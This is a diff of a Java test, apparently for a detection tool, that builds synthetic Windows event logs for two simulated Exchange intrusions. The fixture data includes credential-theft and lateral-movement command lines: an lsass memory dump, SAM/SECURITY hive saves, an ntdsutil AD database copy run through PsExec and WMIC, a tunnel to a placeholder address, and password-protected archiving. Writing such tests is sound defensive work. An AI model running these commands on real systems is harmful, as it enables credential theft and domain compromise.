@@ -32,21 +32,8 @@ class TwoActorsTest {
 
     private final WrittenEvents log = new WrittenEvents();
 
-    private void event(String time, String host, String channel, int id, Map<String, String> fields) {
-        log.event(time, host, channel, id, fields);
-    }
-
-    private void process(String time, String host, String guid, String image, String commandLine, String parentGuid,
-                         String parentImage, String user) {
-        log.process(time, host, guid, image, commandLine, parentGuid, parentImage, user);
-    }
-
-    private void service(String time, String host) {
-        log.service(time, host);
-    }
-
     private void connection(String time, String host, String guid, String image, String destination) {
-        event(time, host, "Microsoft-Windows-Sysmon/Operational", 3, Map.of("ProcessGuid", guid, "Image", image,
+        log.event(time, host, "Microsoft-Windows-Sysmon/Operational", 3, Map.of("ProcessGuid", guid, "Image", image,
                 "Initiated", "true", "SourceIp", "10.0.0.5", "DestinationIp", destination, "DestinationPort", "443"));
     }
 
@@ -58,46 +45,46 @@ class TwoActorsTest {
         String exch = "EXCH01.corp.local";
         String dc = "DC01.corp.local";
         // GALLIUM-like, in the ECP application pool
-        process("2021-03-03 10:00:00", exch, "{a1}", w3wp, "w3wp.exe -ap MSExchangeECPAppPool", "{s0}",
+        log.process("2021-03-03 10:00:00", exch, "{a1}", w3wp, "w3wp.exe -ap MSExchangeECPAppPool", "{s0}",
                 "C:\\Windows\\System32\\svchost.exe", sys);
-        process("2021-03-03 10:01:00", exch, "{a2}", cmd, "cmd /c cd /d C:\\inetpub&whoami&echo [S]&cd&echo [E]", "{a1}",
+        log.process("2021-03-03 10:01:00", exch, "{a2}", cmd, "cmd /c cd /d C:\\inetpub&whoami&echo [S]&cd&echo [E]", "{a1}",
                 w3wp, sys);
-        process("2021-03-03 10:02:00", exch, "{a3}", "C:\\ProgramData\\nbtscan.exe", "nbtscan.exe 10.0.0.0/24", "{a2}",
+        log.process("2021-03-03 10:02:00", exch, "{a3}", "C:\\ProgramData\\nbtscan.exe", "nbtscan.exe 10.0.0.0/24", "{a2}",
                 cmd, sys);
-        process("2021-03-03 10:03:00", exch, "{a4}", "C:\\ProgramData\\pd.exe", "pd.exe -accepteula -ma lsass.exe o.dmp",
+        log.process("2021-03-03 10:03:00", exch, "{a4}", "C:\\ProgramData\\pd.exe", "pd.exe -accepteula -ma lsass.exe o.dmp",
                 "{a2}", cmd, sys);
-        process("2021-03-03 10:04:00", exch, "{a5}", "C:\\ProgramData\\h.exe", "h.exe -tran 443 203.0.113.10 8443",
+        log.process("2021-03-03 10:04:00", exch, "{a5}", "C:\\ProgramData\\h.exe", "h.exe -tran 443 203.0.113.10 8443",
                 "{a2}", cmd, sys);
         connection("2021-03-03 10:04:01", exch, "{a5}", "C:\\ProgramData\\h.exe", "203.0.113.10");
-        process("2021-03-03 10:05:00", exch, "{a6}", "C:\\ProgramData\\PsExec.exe",
+        log.process("2021-03-03 10:05:00", exch, "{a6}", "C:\\ProgramData\\PsExec.exe",
                 "PsExec.exe \\\\DC01 -accepteula -s cmd /c ntdsutil", "{a2}", cmd, sys);
-        service("2021-03-03 10:05:05", dc);
-        process("2021-03-03 10:05:06", dc, "{b1}", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "{b0}",
+        log.service("2021-03-03 10:05:05", dc);
+        log.process("2021-03-03 10:05:06", dc, "{b1}", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "{b0}",
                 "C:\\Windows\\System32\\services.exe", sys);
-        process("2021-03-03 10:06:00", dc, "{b2}", "C:\\Windows\\System32\\ntdsutil.exe",
+        log.process("2021-03-03 10:06:00", dc, "{b2}", "C:\\Windows\\System32\\ntdsutil.exe",
                 "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\x\" q q", "{b1}", "C:\\Windows\\PSEXESVC.exe", sys);
         // APT27-like, in the OWA application pool, half an hour later on the same two hosts
-        process("2021-03-03 10:30:00", exch, "{c1}", w3wp, "w3wp.exe -ap MSExchangeOWAAppPool", "{s0}",
+        log.process("2021-03-03 10:30:00", exch, "{c1}", w3wp, "w3wp.exe -ap MSExchangeOWAAppPool", "{s0}",
                 "C:\\Windows\\System32\\svchost.exe", sys);
-        event("2021-03-03 10:31:00", exch, "Microsoft-Windows-Sysmon/Operational", 7, Map.of("ProcessGuid", "{c1}",
+        log.event("2021-03-03 10:31:00", exch, "Microsoft-Windows-Sysmon/Operational", 7, Map.of("ProcessGuid", "{c1}",
                 "Image", w3wp, "ImageLoaded",
                 "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\bin\\ExTr.dll",
                 "Signed", "false", "SignatureStatus", "Unavailable", "Hashes", "SHA256=" + "ab".repeat(32)));
         String ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-        process("2021-03-03 10:32:00", exch, "{c2}", ps, "powershell -nop -w hidden", "{c1}", w3wp, sys);
-        process("2021-03-03 10:33:00", exch, "{c3}", "C:\\Windows\\System32\\reg.exe",
+        log.process("2021-03-03 10:32:00", exch, "{c2}", ps, "powershell -nop -w hidden", "{c1}", w3wp, sys);
+        log.process("2021-03-03 10:33:00", exch, "{c3}", "C:\\Windows\\System32\\reg.exe",
                 "reg.exe save hklm\\sam C:\\Users\\Public\\s.hiv", "{c2}", ps, sys);
-        process("2021-03-03 10:34:00", exch, "{c4}", "C:\\Users\\Public\\7za.exe",
+        log.process("2021-03-03 10:34:00", exch, "{c4}", "C:\\Users\\Public\\7za.exe",
                 "7za.exe a -pZx81 C:\\Users\\Public\\h.7z C:\\Users\\Public\\s.hiv", "{c2}", ps, sys);
         connection("2021-03-03 10:35:00", exch, "{c2}", ps, "198.51.100.20");
-        process("2021-03-03 10:36:00", exch, "{c5}", "C:\\Windows\\System32\\wbem\\WMIC.exe",
+        log.process("2021-03-03 10:36:00", exch, "{c5}", "C:\\Windows\\System32\\wbem\\WMIC.exe",
                 "wmic /node:DC01 process call create \"cmd /c reg save hklm\\security c:\\windows\\temp\\y.hiv\"",
                 "{c2}", ps, sys);
-        process("2021-03-03 10:36:05", dc, "{d1}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding",
+        log.process("2021-03-03 10:36:05", dc, "{d1}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding",
                 "{d0}", "C:\\Windows\\System32\\svchost.exe", sys);
-        process("2021-03-03 10:36:06", dc, "{d2}", cmd, "cmd /c reg save hklm\\security c:\\windows\\temp\\y.hiv",
+        log.process("2021-03-03 10:36:06", dc, "{d2}", cmd, "cmd /c reg save hklm\\security c:\\windows\\temp\\y.hiv",
                 "{d1}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", sys);
-        process("2021-03-03 10:36:07", dc, "{d3}", "C:\\Windows\\System32\\reg.exe",
+        log.process("2021-03-03 10:36:07", dc, "{d3}", "C:\\Windows\\System32\\reg.exe",
                 "reg save hklm\\security c:\\windows\\temp\\y.hiv", "{d2}", cmd, sys);
         Path logs = Files.createDirectories(tmp.resolve("logs"));
         log.writeTo(logs.resolve("events.json"));
